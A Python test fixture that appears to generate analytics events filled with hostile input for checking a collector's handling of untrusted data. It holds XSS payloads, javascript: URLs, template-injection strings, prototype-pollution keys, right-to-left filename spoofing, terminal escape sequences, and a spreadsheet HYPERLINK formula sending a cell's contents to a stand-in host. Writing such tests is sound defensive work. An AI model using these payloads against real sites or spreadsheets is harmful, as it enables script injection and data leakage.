"""Events whose every field tries something."""

from __future__ import annotations

import time
from typing import Any, Final
from uuid import uuid4

from collector.fields import FIELDS, MAX_ITEMS

TEXTS: Final = {
    "script": "<script>alert(1)</script>",
    "markup": "\"'><img src=http://evil.test/x onerror=alert(1)><svg onload=alert(1)></svg><a href='javascript:alert(1)'>me</a>",
    "javascript": "javascript:alert(document.domain)//",
    "address": "https://evil.test/x",
    "protocol-relative": "//evil.test/x",
    "formula": "=HYPERLINK(\"http://evil.test/\"&A1,\"me\")",
    "template": "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>",
    "right-to-left": "\u202egpj.exe\u202c \u2067abc \u05e9\u05dc\u05d5\u05dd 123",
    "escapes": "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b31m\x00\x08\x7fa\r\nb\tc",
    "style": "</style></title></textarea>]]>--><style>*{display:none}</style>",
    "zalgo": "Z\u0351\u036b\u0343\u036a\u0302" * 40,
    "long": "W" * 4096,
    "prototype": "__proto__",
}  # fmt: skip
#: Names of attributes that try something as names.
NAMES: Final = (
    "__proto__", "constructor", "toString", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "=1+1", "\u202eeman",
    "a\u009b31m", "n" * 128,
)  # fmt: skip
_SHORT: Final = {"geo.country.iso_code": 2}


def hostile_event(text: str, kind: str = "page_view", **more: Any) -> dict[str, Any]:
    """Return an event whose every text is the given one, as far as the field takes it; its other fields are ordinary."""
    event: dict[str, Any] = {field.name: _value(field, text) for field in FIELDS if field.origin == "sender"}
    event |= dict.fromkeys(NAMES, text[:4096]) | {"flag <b>": True, "number <b>": 7}
    now = int(time.time() * 1000) - 60_000
    return event | {"id": str(uuid4()), "kind": kind, "time": now, "revision": 0, "sample_rate": 1, **more}


def _value(field: Any, text: str) -> Any:
    shown = text[: int(min(field.high, _SHORT.get(field.name, field.high)))]
    values = {"string": shown, "number": min(max(field.low, 100.0), field.high), "boolean": True, "time": 0}
    if not field.is_list:
        return values[field.type]
    numbers = [100 + index for index in range(MAX_ITEMS)] if field.whole else [float(index) for index in range(MAX_ITEMS)]
    return numbers if field.item_type == "number" else [values[field.item_type]] * MAX_ITEMS
